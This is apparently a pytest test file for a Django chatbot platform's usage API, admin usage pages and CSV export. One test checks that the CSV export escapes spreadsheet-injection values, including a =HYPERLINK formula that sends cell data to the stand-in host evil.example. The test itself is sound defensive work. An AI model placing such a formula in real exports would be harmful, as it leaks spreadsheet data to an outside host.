"""Usage: GET /v1/usage and the admin console's usage view."""

from __future__ import annotations

import csv
import datetime as dt
import io

import pytest
from django.db.models import F
from django.utils import timezone

from accounts.models import DailyUsage
from accounts.usage import month_bounds
from tests.browser import chromium, needs_chromium, screenshot, sign_in
from tests.factories import ChatbotFactory

pytestmark = pytest.mark.django_db


def record(tenant, day: dt.date, messages: int, chatbot=None) -> None:
    DailyUsage.objects.create(
        organization=tenant.organization,
        chatbot=chatbot or tenant.chatbot,
        day=day,
        messages=messages,
    )


def today() -> dt.date:
    return timezone.now().date()


def test_usage_endpoint_reports_the_month(tenant):
    tenant.organization.monthly_quota = 100
    tenant.organization.save()
    record(tenant, today(), 7)
    record(tenant, today().replace(day=1) - dt.timedelta(days=1), 50)  # last month: not counted

    body = tenant.client.get("/v1/usage").json()

    _, resets = month_bounds(timezone.now())
    assert body == {
        "month": today().strftime("%Y-%m"),
        "messages": 7,
        "quota": 100,
        "remaining": 93,
        "resetsAt": resets.isoformat().replace("+00:00", "Z"),
    }


def test_usage_endpoint_unlimited_and_scoped_to_the_key(tenant, other_tenant):
    record(other_tenant, today(), 9)
    body = tenant.client.get("/v1/usage").json()
    assert (body["messages"], body["quota"], body["remaining"]) == (0, None, None)


def test_usage_endpoint_needs_a_key(anonymous):
    assert anonymous.get("/v1/usage").status_code == 401


def usage_rows(tenant) -> list[tuple]:
    return list(
        DailyUsage.objects.filter(organization=tenant.organization)
        .order_by(F("chatbot__name").asc(nulls_last=True))
        .values_list("chatbot_id", "day", "messages", "chats", "pdp_requests")
    )


def test_chat_creation_is_recorded(tenant):
    bot = tenant.chatbot.id
    # The day's first chat creates the usage row
    tenant.client.post("/v1/chats", {"chatbotId": str(bot)}, format="json")
    assert usage_rows(tenant) == [(bot, today(), 0, 1, 0)]

    # and the next ones add to it
    tenant.client.post("/v1/chats", {"chatbotId": str(bot)}, format="json")
    assert usage_rows(tenant) == [(bot, today(), 0, 2, 0)]


def test_chat_creation_adds_to_the_chatbots_row_only(tenant):
    # Given a day with messages of the chatbot and unbound usage (PDP requests)
    record(tenant, today(), 5)
    DailyUsage.objects.create(organization=tenant.organization, day=today(), pdp_requests=3)
    second_bot = ChatbotFactory(organization=tenant.organization, name="zz second")

    # When a chat of each chatbot is created
    for chatbot in (tenant.chatbot, second_bot):
        tenant.client.post("/v1/chats", {"chatbotId": str(chatbot.id)}, format="json")

    # Then each chatbot's row counts its chat, and the other figures are kept
    assert usage_rows(tenant) == [
        (tenant.chatbot.id, today(), 5, 1, 0),
        (second_bot.id, today(), 0, 1, 0),
        (None, today(), 0, 0, 3),
    ]


def test_usage_page_shows_progress_and_charts(operator_client, tenant):
    tenant.organization.monthly_quota = 40
    tenant.organization.save()
    second_bot = ChatbotFactory(organization=tenant.organization, name="Second bot")
    record(tenant, today(), 30)
    record(tenant, today(), 4, chatbot=second_bot)

    page = operator_client.get(
        f"/admin/accounts/organization/{tenant.organization.pk}/usage/"
    ).content.decode()

    assert "34 messages of 40" in page
    assert "85.0% of the monthly quota used" in page
    assert 'class="meter high"' in page
    assert page.count('<svg class="usage-chart"') == 4  # this month, last month, two chatbots
    assert "Second bot: 4 messages" in page


def test_list_highlights_organizations_at_80_percent(operator_client, tenant, other_tenant):
    tenant.organization.monthly_quota = 10
    tenant.organization.save()
    other_tenant.organization.monthly_quota = 10
    other_tenant.organization.save()
    record(tenant, today(), 8)
    record(other_tenant, today(), 7)

    page = operator_client.get("/admin/accounts/organization/").content.decode()

    assert '<strong class="usage-high" style="color:#ba2121">8 (80%) ⚠</strong>' in page
    assert "7 (70%)" in page and "7 (70%) ⚠" not in page


def test_csv_export_has_the_daily_figures(operator_client, tenant):
    record(tenant, dt.date(2026, 10, 3), 5)
    response = operator_client.get(
        f"/admin/accounts/organization/{tenant.organization.pk}/usage.csv"
    )
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    assert response["Content-Type"] == "text/csv"
    assert rows == [
        {
            "day": "2026-10-03",
            "chatbot_id": str(tenant.chatbot.pk),
            "chatbot": tenant.chatbot.name,
            "messages": "5",
            "chats": "0",
            "pdp_requests": "0",
        }
    ]


@pytest.mark.parametrize(
    "name",
    [
        '=HYPERLINK("https://evil.example/?d="&A1, "Click")',
        "+1+1",
        "-2+3",
        "@SUM(A1:A2)",
        "\tTabbed",
        "\rReturned",
    ],
)
def test_csv_export_escapes_cells_a_spreadsheet_would_run(operator_client, tenant, name):
    chatbot = ChatbotFactory(organization=tenant.organization, name=name)
    record(tenant, dt.date(2026, 10, 3), 5, chatbot=chatbot)
    response = operator_client.get(
        f"/admin/accounts/organization/{tenant.organization.pk}/usage.csv"
    )
    (row,) = csv.DictReader(io.StringIO(response.content.decode(), newline=""))
    assert row["chatbot"] == "'" + name
    assert row["messages"] == "5"


def test_csv_export_leaves_other_names_as_they_are(operator_client, tenant):
    chatbot = ChatbotFactory(organization=tenant.organization, name="Shop = best, -ish")
    record(tenant, dt.date(2026, 10, 3), 5, chatbot=chatbot)
    response = operator_client.get(
        f"/admin/accounts/organization/{tenant.organization.pk}/usage.csv"
    )
    (row,) = csv.DictReader(io.StringIO(response.content.decode(), newline=""))
    assert row["chatbot"] == "Shop = best, -ish"


def test_support_cannot_see_usage(support_client, tenant):
    assert (
        support_client.get(
            f"/admin/accounts/organization/{tenant.organization.pk}/usage/"
        ).status_code
        == 403
    )


@needs_chromium
@pytest.mark.browser
def test_usage_chart_is_drawn_in_a_browser(live, tenant):
    from django.contrib.auth.models import User

    User.objects.create_superuser("chart-admin", "a@example.com", "chart-password-1")
    tenant.organization.monthly_quota = 50
    tenant.organization.save()
    for offset, messages in enumerate([3, 8, 5, 12]):
        record(tenant, today() - dt.timedelta(days=offset), messages)

    with chromium() as page:
        # Through the login form; returns once the console shows the signed-in user.
        sign_in(page, live.url, "chart-admin", "chart-password-1")
        page.goto(f"{live.url}/admin/accounts/organization/{tenant.organization.pk}/usage/")

        charts = page.locator("svg.usage-chart")
        assert charts.count(), f"no chart at {page.url}"
        chart_count = charts.count()
        heights = [
            (bar.bounding_box() or {"height": 0})["height"]
            for bar in charts.first.locator("rect.bar").all()
        ]
        drawn_bars = [height for height in heights if height > 0]
        meter = page.locator(".meter span").first.bounding_box()
        meter_width = meter["width"] if meter else 0
        path = screenshot(page, "admin-usage")

    assert chart_count == 3
    assert len(drawn_bars) == sum(
        1 for offset in range(4) if (today() - dt.timedelta(days=offset)).month == today().month
    )
    assert meter_width > 0
    assert path.stat().st_size > 10_000
